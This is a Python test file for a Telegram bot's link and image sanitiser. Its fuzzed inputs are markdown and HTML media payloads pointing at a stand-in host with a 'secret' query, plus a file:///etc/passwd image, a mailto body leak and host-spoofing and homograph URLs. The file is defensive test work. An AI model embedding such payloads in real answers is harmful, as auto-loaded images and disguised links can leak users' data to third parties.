"""No link or image in an answer is fetched unseen, by a parser independent of Sam's."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from bot.telegram.formatting.links import may_be_rich, safe_links, shown_host
from bot.telegram.formatting.message_parts import parts, tail
from tests.fakes.telegram_text import rich_media

EVIL = "https://evil.example/p.png?d=secret"
CODE = f"![a]({EVIL})"

address = st.sampled_from(
    [EVIL, f"<{EVIL}>", "//evil.example/p", "HTTPS://evil.example", "evil.example/p", "a\\(b"]
)
title = st.sampled_from(["", ' "t"', " 't'", " (t)", "\n"])
alt = st.sampled_from(
    ["", "a", "*a*", "`a`", "a\nb", "[b](c)", "\\]", "漢😀", "![n](//n.example/x)"]
)
inline = st.builds("![{}]({}{})".format, alt, address, title)
reference = st.builds(
    "![{0}]{1}\n\n[{2}]: {3}\n".format,
    alt,
    st.sampled_from(["[r]", "[]", "", "[R]", " [r]"]),
    st.sampled_from(["r", "a", "*a*"]),
    address,
)
html = st.builds(
    "<{} {}={}{}>".format,
    st.sampled_from(["img", "IMG", "video", "audio", "iframe", "photo", "tg-map", "details", "x"]),
    st.sampled_from(["src", "poster", "href", "\nsrc", "a=b src", "srcset"]),
    st.sampled_from([f'"{EVIL}"', EVIL, f"'{EVIL}'"]),
    st.sampled_from(["", "/", " /", "\n", "></img"]),
)
odd = st.sampled_from(
    [
        *("`", "``", "```\n", "~~~\n", "\n", "\n\n", "\n    ", "\n      ```\n", "\t", "  \n", "\\"),
        *("!", "!!", "\\!", "[", "]", "](", ")", "<", ">", "&excl;", "&#33;", "&lt;", "\u200b"),
        *("||", "**", "$", "$$\n", "- ", "1. ", "> ", "> ```\n", "# ", "- [ ] ", "[^1]: ", "[^1]"),
        *(
            "| a | b |\n|--|--|\n| ",
            " | ",
            "<details>",
            "</details>",
            "<!--",
            "-->",
            "<tg-spoiler>",
        ),
        *(
            "[l](",
            f"]({EVIL})",
            f"[r]: {EVIL}\n",
            "\u00a0",
            "\ufeff",
            "\u202e",
            "\x00",
            "！",
            "［",
            "<tg-spoiler>",
        ),
    ]
)
attack = st.lists(
    st.one_of(inline, reference, html, odd, odd, st.sampled_from(["word ", " "])), max_size=14
).map("".join)


@settings(max_examples=1500, deadline=None)
@given(attack, st.sampled_from([40, 200, 4096]))
@example(f"x `a\nb` <img src={EVIL}> `c", 4096)
@example(f"text\n\n      ```\n\n<img src={EVIL}>", 4096)
@example(f"\\\\<img src={EVIL}>", 4096)
@example(f"<details><img src={EVIL}>", 200)
@example(f"!![a]({EVIL})", 4096)
@example(f"`{'a ' * 30}![a]({EVIL})`", 40)
@example(f"$1 ![a]({EVIL}) 2$", 4096)
@example(f"![![b]({EVIL})]({EVIL})", 4096)
def test_no_part_and_no_draft_has_media(text: str, limit: int) -> None:
    for part in (*parts(text, limit=limit), tail(text, limit=limit)):
        if part is not None and part.rich is not None:
            assert rich_media({"markdown": part.rich}) == [], part.rich


@pytest.mark.parametrize(
    "text",
    [
        CODE,
        f"![a][r]\n\n[r]: {EVIL}",
        f'<img src="{EVIL}">',
        f"<video\nposter='{EVIL}'></video>",
        f"| a |\n|--|\n| ![]({EVIL}) |",
    ],
)
def test_the_judge_itself_sees_media(text: str) -> None:
    """Check the detector itself, because one that finds nothing would make every test pass."""
    assert rich_media({"markdown": text}) == [EVIL]


@settings(max_examples=300, deadline=None)
@given(attack)
def test_an_address_of_an_image_is_not_lost(text: str) -> None:
    """The image becomes a link in the same place, which needs a tap."""
    for part in parts(f"![a]({EVIL})\n\n{text}")[:1]:
        assert [e.url for e in part.entities][:1] == [EVIL]
        assert part.text.startswith("🖼 a (evil.example)")


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (CODE, f"🖼 [a]({EVIL}) (evil.example)"),
        (f"![]({EVIL})", f"🖼 [image]({EVIL}) (evil.example)"),
        (f"!![a]({EVIL})", f"!🖼 [a]({EVIL}) (evil.example)"),
        (f"[{CODE}](https://b.example)", "[🖼 a](https://b.example) (b.example)"),
        ("![a](file:///etc/passwd)", "🖼 a"),
        ("![👍](tg://emoji?id=5368324170671202286)",) * 2,
        ("[report](https://b.example/x)", "[report](https://b.example/x) (b.example)"),
        ("[a][r]\n\n[r]: https://b.example", "[a][r] (b.example)\n\n[r]: https://b.example"),
        ("[b.example](https://b.example/x)",) * 2,
        ("[https://b.example/x](https://b.example/x)",) * 2,
        (f"`{CODE}`",) * 2,
        (f"```\n{CODE}\n```",) * 2,
    ],
)
def test_what_becomes_of_it(before: str, after: str) -> None:
    assert safe_links(before) == after


def test_code_that_looks_like_an_image_stays_code_and_is_not_sent_as_rich() -> None:
    """Telegram's parser may see the end of the code elsewhere, but accepts entities as given."""
    [part] = parts(f"Write `{CODE}` or\n\n```html\n<img src={EVIL}>\n```")
    assert part.rich is None
    assert part.text == f"Write {CODE} or\n\n<img src={EVIL}>"
    assert [e.type for e in part.entities] == ["code", "pre"]


@pytest.mark.parametrize(
    ("text", "rich"),
    [
        *(
            (text, True)
            for text in ("a `List<T>` b", "x < y, z = 3", "1 \\<img src=x>", "! [a](b)")
        ),
        *((text, True) for text in ("<details open>", "![👍](tg://emoji?id=1)", "!\\[a](b)")),
        *((text, False) for text in ("\\\\<img src=x>", "<x-y\nz=1>", "\\![a]", "<tg-map/>")),
        *((text, False) for text in ("<details open=x>", "![👍](tg://emoji?id=1) ![", "</IMG>")),
    ],
)
def test_only_what_is_surely_without_media_is_rich(text: str, rich: bool) -> None:
    assert may_be_rich(text) is rich


@pytest.mark.parametrize(
    ("text", "address", "shown"),
    [
        ("a", "https://good.example@evil.example/x", "evil.example"),
        ("a", "https://evil.example\\@good.example/", "evil.example"),
        ("https://good.example", "https://evil.example", "evil.example"),
        ("evil.example/x", "https://evil.example/x", ""),
        ("a", "https:evil.example/x", "evil.example"),
        ("a", "https:///evil.example", "evil.example"),
        ("a", "//evil.example:8080/x", "evil.example"),
        ("a", "ht\ttps://evil%2eexample/x", "evil.example"),
        ("good.example", "https://gооd.example/", "xn--gd-fmca.example"),
        ("a", "evil.example/x", "evil.example"),
        ("a", "notes/2026.md", ""),
        ("write", "mailto:a@b.example?body=secret", "a@b.example"),
        ("a@b.example", "mailto:a@b.example", ""),
        ("a", "obsidian://open?x", "obsidian:"),
        ("a", "tg://user?id=1", ""),
        ("a", "https://[::1]:80/", "[::1]"),
        ("a", "https://*x*.example/", "%2ax%2a.example"),
    ],
)
def test_the_host_of_a_link_is_shown(text: str, address: str, shown: str) -> None:
    assert shown_host(text, address).lower() == shown
    assert re.fullmatch(r"[ -~]*", shown_host(text, address))
